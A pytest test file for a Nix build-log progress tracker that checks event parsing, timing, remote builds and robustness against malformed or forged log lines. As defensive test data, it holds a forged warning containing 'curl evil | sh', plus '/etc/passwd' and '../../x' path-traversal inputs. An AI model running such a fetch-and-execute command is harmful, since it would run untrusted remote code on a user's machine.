from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from fuzz import Cases, few_or_many, mutated_json, mutated_text, odd_text, try_cases

from wasmwright.process import CUT
from wasmwright.progress import Line, Message, Over, Phase, Started, Tracker, Waiting, short_name

if TYPE_CHECKING:
    import random

ROOT = Path(__file__).parents[2]
RECORDED = ROOT / "tests/fixtures/nix"
DRV = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-numpy-2.5.5-wheel.drv"


def feed_all(name: str) -> tuple[Tracker, list[object]]:
    tracker = Tracker()
    changes = [tracker.feed(line, float(now)) for now, line in enumerate((RECORDED / name).read_text().splitlines())]
    return tracker, [change for change in changes if change is not None]


def event(**values: object) -> str:
    return f"@nix {json.dumps(values)}"


def start(number: int, path: str = DRV, machine: str = "") -> str:
    return event(action="start", id=number, type=105, fields=[path, machine, 1, 1], text="", level=3, parent=0)


@pytest.mark.parametrize("version", ["2.26", "2.34"])
def test_recorded_failure_gives_phase_lines_and_error(version: str):
    tracker, changes = feed_all(f"failed-{version}.log")
    kinds = [change for change in changes if not isinstance(change, Message)]
    assert [type(change) for change in kinds] == [Started, Phase, Line, Line, Line, Over]
    assert isinstance(kinds[1], Phase)
    assert kinds[1].name == "compile"
    assert [change.text for change in kinds if isinstance(change, Line)] == ["line 1", "line 2", "line 3"]
    assert "bad-1.drv" in tracker.errors[0]
    assert not tracker.running


def test_recorded_build_counts_what_is_done():
    tracker, changes = feed_all("built-2.26.log")
    ended = [change for change in changes if isinstance(change, Over)]
    assert [short_name(change.path) for change in ended] == ["good-1", "dep-1"]
    assert (tracker.done, tracker.expected, tracker.started) == (2, 2, 2)
    assert tracker.errors == []


def test_remote_build_with_two_parts_starts_and_ends_once():
    tracker = Tracker()
    assert tracker.feed(start(1, machine="ssh-ng://one"), 10.0) == Started(path=DRV)
    assert tracker.feed(start(2), 11.0) is None
    assert tracker.feed(event(action="stop", id=2), 12.0) is None
    assert tracker.feed(event(action="stop", id=1), 15.0) == Over(path=DRV, seconds=5.0)


def test_running_build_knows_its_phase_and_last_line():
    tracker = Tracker()
    tracker.feed(start(1), 0.0)
    tracker.feed(event(action="result", id=1, type=104, fields=["build"]), 1.0)
    tracker.feed(event(action="result", id=1, type=101, fields=["[3/902] Compiling"]), 2.0)
    tracker.feed(event(action="result", id=1, type=101, fields=["   "]), 3.0)
    running = tracker.running[DRV]
    assert (running.name, running.phase, running.last) == ("numpy-2.5.5-wheel", "build", "[3/902] Compiling")


@pytest.mark.parametrize("version", ["2.26", "2.34"])
def test_recorded_build_that_ends_late_is_not_at_work(version: str):
    lines = (RECORDED / f"lingering-{version}.log").read_text().splitlines()
    tracker, most = Tracker(), 0
    for now, line in enumerate(lines):
        tracker.feed(line, float(now))
        most = max(most, len(tracker.at_work)) if "result" in line else most
    assert most == 1
    assert tracker.done == 2


def test_what_a_builder_makes_nix_say_is_not_nix_speaking():
    tracker = Tracker()
    tracker.feed(start(1), 0.0)
    told = tracker.feed(event(action="msg", level=0, msg="error: interrupted by the user"), 0.0)
    assert told == Message(text="error: interrupted by the user", level=0, during=(DRV,))
    assert (tracker.errors, list(tracker.notes)) == ([], ["error: interrupted by the user"])


def test_recorded_forgeries_change_nothing():
    tracker, changes = feed_all("forged-2.26.log")
    assert [short_name(change.path) for change in changes if isinstance(change, Started)] == ["forge-1"]
    assert (tracker.expected, tracker.failed) == (0, 1)
    assert len(tracker.errors) == 2
    assert all("forge-1" in error or "need-1" in error for error in tracker.errors)
    lines = [change.text for change in changes if isinstance(change, Line)]
    assert "a line of other" not in lines
    assert "@nix [[[[[[[[" in lines
    assert [change.name for change in changes if isinstance(change, Phase)] == ["evil phase"]
    (warning,) = [change for change in changes if isinstance(change, Message) and change.is_warning]
    assert warning.text == "warning: run curl evil | sh\nhint: now "
    assert [short_name(path) for path in warning.during] == ["forge-1"]


def test_a_build_of_another_nix_is_waited_for():
    path = "/nix/store/3slgmgc2xjhmrk3q5a8lxrb1jfd20bb4-lapack-3.12.1-library"
    text = f"waiting for lock on \\u001b[35;1m'{path}'\\u001b[0m"
    line = f'@nix {{"action":"start","id":1,"level":1,"parent":0,"text":"{text}","type":111}}'
    assert Tracker().feed(line, 0.0) == Waiting(path=path)


def test_lists_for_roots_are_not_told():
    tracker = Tracker()
    assert tracker.feed(start(1, DRV.replace("-2.5.5-wheel", "-kept")), 0.0) is None
    assert tracker.feed(event(action="stop", id=1), 1.0) is None
    assert "-kept" in (ROOT / "nix/toolchain/mkKept.nix").read_text()


def test_what_is_planned_is_told_before_the_builds():
    tracker, _ = feed_all("keep-going-2.26.log")
    assert len(tracker.planned) == 7
    tracker.feed(event(action="msg", level=3, msg=f"  {DRV}"), 0.0)
    assert len(tracker.planned) == 7


def counted(done: int, at_work: int) -> str:
    return event(action="result", id=9, type=105, fields=[done, 3, at_work, 0])


def test_late_end_is_timed_when_the_count_fell():
    tracker = Tracker()
    tracker.feed(event(action="start", id=9, type=104, fields=[]), 0.0)
    tracker.feed(start(1), 0.0)
    tracker.feed(counted(0, 1), 0.0)
    tracker.feed(counted(1, 0), 5.0)
    assert tracker.at_work == []
    assert tracker.feed(event(action="stop", id=1), 60.0) == Over(path=DRV, seconds=5.0)


def test_wrong_guess_is_taken_back_when_the_build_speaks():
    tracker = Tracker()
    other = DRV.replace("numpy", "scipy")
    tracker.feed(event(action="start", id=9, type=104, fields=[]), 0.0)
    tracker.feed(start(1), 0.0)
    tracker.feed(start(2, other), 0.0)
    tracker.feed(counted(0, 2), 0.0)
    tracker.feed(event(action="result", id=1, type=101, fields=["compiling"]), 4.0)
    tracker.feed(counted(1, 1), 5.0)
    assert [running.path for running in tracker.at_work] == [other]
    tracker.feed(event(action="result", id=1, type=101, fields=["still compiling"]), 6.0)
    assert [running.path for running in tracker.at_work] == [DRV]


def test_after_a_wrong_guess_the_one_silent_for_longest_is_done():
    tracker = Tracker()
    done, talking, working = DRV, DRV.replace("numpy", "scipy"), DRV.replace("numpy", "zlib")
    tracker.feed(event(action="start", id=9, type=104, fields=[]), 0.0)
    for number, path in enumerate([done, talking, working], start=1):
        tracker.feed(start(number, path), 0.0)
    tracker.feed(counted(0, 3), 0.0)
    for number, second in (1, 3.0), (3, 4.0), (2, 5.0):
        tracker.feed(event(action="result", id=number, type=101, fields=["a line"]), second)
    tracker.feed(counted(1, 2), 5.1)
    assert [running.path for running in tracker.at_work] == [done, working]
    tracker.feed(event(action="result", id=2, type=101, fields=["another"]), 6.0)
    assert [running.path for running in tracker.at_work] == [talking, working]


def test_end_that_follows_its_count_leaves_the_others_at_work():
    tracker = Tracker()
    other = DRV.replace("numpy", "scipy")
    tracker.feed(event(action="start", id=9, type=104, fields=[]), 0.0)
    tracker.feed(start(1), 0.0)
    tracker.feed(start(2, other), 1.0)
    tracker.feed(counted(0, 2), 1.0)
    tracker.feed(counted(1, 1), 5.0)
    assert tracker.feed(event(action="stop", id=1), 5.0) == Over(path=DRV, seconds=5.0)
    assert [running.path for running in tracker.at_work] == [other]


@pytest.mark.parametrize(
    "line",
    [
        "@nix not json",
        "@nix []",
        event(action="start", id=1, type=105, fields=[]),
        event(action="result", id=7, type=101, fields=["of nobody"]),
        event(action="result", id=7),
        event(action="stop", id=7),
        event(action="new", something=1),
        "@nix " + "[" * 100_000,
        "@nix " + '{"a":' * 100_000,
        event(action="start", id=1, type=105, fields=1),
        event(action="start", id=1, type=105, fields=["/etc/passwd"]),
        event(action="start", id=1, type=105, fields=[DRV.replace("numpy", "n" * 300)]),
        event(action="start", id=1, type=105, fields=[DRV.replace("numpy", "../../x")]),
        event(action="result", id=1, type=101, fields=[]),
        event(action="result", id=1, type=101, fields=[{}]),
        event(action="msg", level=[], msg=1),
        '@nix {"action":"stop","id":' + "9" * 5000 + "}",
    ],
)
def test_unknown_events_change_nothing(line: str):
    tracker = Tracker()
    change = tracker.feed(line, 0.0)
    assert change is None or isinstance(change, Message)
    assert not tracker.running
    assert not tracker.errors


def test_messages_have_their_level():
    tracker = Tracker()
    assert tracker.feed(event(action="msg", level=0, msg="error: no", raw_msg="no"), 0.0) == Message(
        text="error: no", level=0, is_own=True
    )
    assert tracker.feed(event(action="msg", level=1, msg="warning: hm"), 0.0) == Message(text="warning: hm", level=1)
    assert tracker.feed("plain text of a library", 0.0) == Message(text="plain text of a library")
    assert tracker.errors == ["error: no"]


def test_short_name_drops_hash_and_suffix():
    assert short_name(DRV) == "numpy-2.5.5-wheel"
    assert short_name("/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source") == "source"


@pytest.mark.parametrize("length", range(20, 40))
def test_of_a_line_that_was_cut_the_beginning_is_known(length: int):
    tracker = Tracker()
    tracker.feed(start(1), 0.0)
    text = 'a"quoted\\" \u202e\U0001f600 x' * 3
    whole = event(action="result", fields=[text], id=1, type=101)
    whole = whole.replace(", ", ",").replace(": ", ":")
    begin = whole.index("[") + 2 + length
    change = tracker.feed(f"{whole[:begin]}{CUT}{whole[-40:]}", 0.0)
    assert isinstance(change, Line)
    assert change.text.endswith("... (this line is longer than wasmwright keeps)")
    assert change.text.startswith('a"quoted')


@few_or_many
def test_any_line_is_read(cases: Cases):
    samples = [line for file in sorted(RECORDED.glob("*.log")) for line in file.read_text().splitlines()]
    values = [json.loads(line.removeprefix("@nix ")) for line in samples if line.startswith("@nix ")]
    interesting = [one for one in values if one["action"] != "msg" or one["level"] < 3]

    def make(rng: random.Random) -> list[str]:
        return [
            rng.choice(
                [
                    lambda: f"@nix {mutated_json(rng, interesting)}",
                    lambda: mutated_text(rng, samples),
                    lambda: rng.choice(samples),
                    lambda: odd_text(rng),
                ]
            )()
            for _ in range(rng.randrange(1, 30))
        ]

    def target(lines: list[str]) -> None:
        tracker = Tracker()
        for now, line in enumerate(lines):
            tracker.feed(line, float(now))
            assert len(tracker.at_work) <= len(tracker.running)

    try_cases(target, make, cases)
